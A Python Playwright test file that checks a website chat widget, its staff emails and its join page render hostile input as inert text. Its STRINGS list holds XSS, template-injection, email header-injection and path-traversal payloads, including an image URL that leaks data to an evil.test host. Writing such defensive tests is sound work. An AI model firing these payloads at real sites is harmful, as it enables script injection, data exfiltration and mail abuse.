"""Whatever a visitor or a model writes is shown as text, everywhere; nothing runs, nothing is fetched."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from pathlib import Path
import re

from playwright.async_api import Page, Request, expect
import pytest

from tests.browsers import Screen, chromium, screen
from tests.chatter import Chatter
from tests.eventually import eventually
from tests.fakes.model import FakeModel, says
from tests.fakes.smtp import Received, SmtpServer
from tests.running import Server, free_port, running, website

STRINGS = [
    "<img src=https://evil.test/a.png onerror=window.pwned=1>",
    "<script>window.pwned=1</script>",
    "![picture](https://evil.test/pixel.png?d=secret)",
    "[bank](javascript:window.pwned=1) [x](data:text/html,<script>window.pwned=1</script>)",
    "[https://good.test](https://good.test@evil.test/) [good.test](https://evil.test\\@good.test)",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= 7*7 %>",
    "\u202egnp.exe \u2066hidden\u2069 <3 <b>bold</b>",
    "=?utf-8?q?a=0D=0ABcc:_x@evil.test?= \r\nBcc: x@evil.test\r\n\r\nbody",
    "</title></style></textarea><svg onload=window.pwned=1>",
    "a" * 300 + " " + "𝔘𝔫𝔦 🏳️‍🌈 " + "e" + "\u0301" * 40,
]


class Scene:
    server: Server
    smtp: SmtpServer
    model: FakeModel
    maria: Screen
    dana: Screen
    shop: str
    fetched: list[str]


@pytest.fixture
async def scene(tmp_path: Path) -> AsyncIterator[Scene]:
    set_up = Scene()
    async with AsyncExitStack() as stack:
        set_up.model = await stack.enter_async_context(FakeModel().serving())
        set_up.smtp = await stack.enter_async_context(SmtpServer())
        port, shop_port = free_port(), free_port()
        set_up.shop = stack.enter_context(website(f"http://127.0.0.1:{port}", port=shop_port))
        config = {
            "sites": {"acme": {"name": "Acme", "origins": [set_up.shop], "staff": ["dana"]}},
            "staff": {"dana": {"name": "Dana", "email": "dana@acme.example"}},
            "email": {"smtp_url": set_up.smtp.url, "from": "Acme <chat@acme.example>", "settle": 3.0},
            "assistant": {"kind": "openai", "base_url": set_up.model.base_url, "model": "m"},
            "limits": {"messages_per_minute": 1000},
        }
        set_up.server = await asyncio.to_thread(stack.enter_context, running(tmp_path, config, port=port))
        browser = await stack.enter_async_context(chromium())
        set_up.maria = await stack.enter_async_context(screen(browser))
        set_up.dana = await stack.enter_async_context(screen(browser))
        set_up.fetched = []
        for window in (set_up.maria, set_up.dana):
            window.page.on("request", lambda r: _note(r, set_up.fetched))
        yield set_up


def _note(request: Request, fetched: list[str]) -> None:
    if "127.0.0.1" not in request.url and not request.url.startswith(("data:", "blob:")):
        fetched.append(request.url)


def plain(text: str) -> str:
    """What of a text a person can recognise wherever it is shown."""
    return re.sub(r"\W+", "", text.replace("e" + "\u0301" * 40, ""))[:40]


async def is_harmless(page: Page) -> None:
    assert await page.evaluate("typeof window.pwned") == "undefined"
    for frame in page.frames:
        links = await frame.evaluate(
            """() => {
              const roots = [document, ...[...document.querySelectorAll('*')].map(e => e.shadowRoot).filter(Boolean)];
              return roots.flatMap(r => [...r.querySelectorAll('a[href]')].map(a => a.protocol));
            }"""
        )
        assert set(links) <= {"http:", "https:", "mailto:", "tel:"}


async def test_hostile_strings_are_text(scene: Scene) -> None:
    token = "h" * 43
    async with Chatter(f"{scene.server.url}/live/visitor", origin=scene.shop, token=token) as visitor:
        scene.model.play(*[says(text) for text in STRINGS])
        context = {f"k{n}": text for n, text in enumerate(STRINGS)} | {STRINGS[0]: "key"}
        opened = {
            "type": "Opened", "site": "acme", "title": STRINGS[0], "page": "javascript:window.pwned=1",
            "locale": "<b>", "timezone": "../../etc/passwd", "context": context,
        }  # fmt: skip
        await visitor.propose(opened, {"type": "Said", "text": STRINGS[7]})
        name = {"type": "Identified", "name": STRINGS[1], "email": "a@evil.test", "user": STRINGS[4]}
        assert (await visitor.propose(name))["t"] == "ack"
        for number, text in enumerate(STRINGS):
            assert (await visitor.propose({"type": "Said", "text": text}))["t"] == "ack"
            await eventually(
                lambda number=number: (
                    len([x for x in visitor.lines if x["by"]["role"] == "assistant"]) > number
                )
            )
        await visitor.propose({"type": "Rated", "score": "bad", "comment": STRINGS[1]})

    # The mail: headers as we set them, the words as text, nothing to fetch.
    await eventually(lambda: scene.smtp.to("dana@acme.example"))
    mail = scene.smtp.to("dana@acme.example")[0]
    _headers_are_ours(mail)
    await scene.dana.page.set_content(mail.part("html"))
    await is_harmless(scene.dana.page)
    assert await scene.dana.page.locator("img, script, iframe, svg, form, input").count() == 0

    # The join page.
    link = re.search(r"\S+/join#\S+", mail.part("plain"))
    assert link
    dana = scene.dana.page
    await dana.goto(link[0])
    await dana.get_by_role("textbox", name="Your name").fill("Dana")
    await dana.get_by_role("button", name="Join", exact=True).click()
    log = dana.get_by_role("log", name="Conversation")
    await expect(log).to_contain_text("window.pwned=1")
    shown = plain(await log.inner_text())
    whole = re.sub(r"\W+", "", await log.inner_text())
    assert shown
    for text in STRINGS[:3]:
        assert plain(text)[:12] in whole or "picture" in text
    await is_harmless(dana)
    await scene.dana.shot("hostile-join")

    # The widget of the same visitor.
    maria = scene.maria.page
    await maria.goto(scene.shop)
    await maria.get_by_role("button", name="Open chat").click()
    await maria.get_by_role("textbox", name="Message").fill("still here")
    await maria.get_by_role("button", name="Send message").click()
    answers = maria.get_by_role("log").get_by_role("article", name=re.compile("^AI assistant"))
    await expect(answers).to_have_count(1)
    for number, text in enumerate(STRINGS):
        scene.model.play(says(text))
        await maria.get_by_role("textbox", name="Message").fill(f"{number} {text}")
        await maria.get_by_role("button", name="Send message").click()
        await expect(answers).to_have_count(number + 2)
    await is_harmless(maria)
    assert await maria.locator("joinline-chat img, joinline-chat script, joinline-chat iframe").count() == 0
    await scene.maria.shot("hostile-widget")

    # The page without scripts.
    await maria.goto(f"{scene.server.url}/chat/acme")
    await maria.get_by_role("textbox").first.fill(STRINGS[0])
    await maria.get_by_role("button", name="Send").first.click()
    await expect(maria.frame_locator("iframe").locator("body")).to_contain_text("onerror=window.pwned=1")
    await is_harmless(maria)

    assert scene.fetched == []
    assert scene.maria.complaints == scene.dana.complaints == []
    assert "pwned" not in scene.server.log, "the server's log holds no words of anyone"
    assert "Traceback" not in scene.server.log


def _headers_are_ours(mail: Received) -> None:
    found = mail.mail
    assert found["To"] == "Dana <dana@acme.example>"
    assert found["Bcc"] is None
    assert found["Cc"] is None
    head, _, _ = mail.raw.partition(b"\r\n\r\n")
    assert b"\nBcc" not in head
    assert len(found["Subject"]) <= 70
    names = [line.split(b":")[0] for line in head.split(b"\r\n") if not line.startswith((b" ", b"\t"))]
    assert len(names) == len(set(names)), "no header twice"
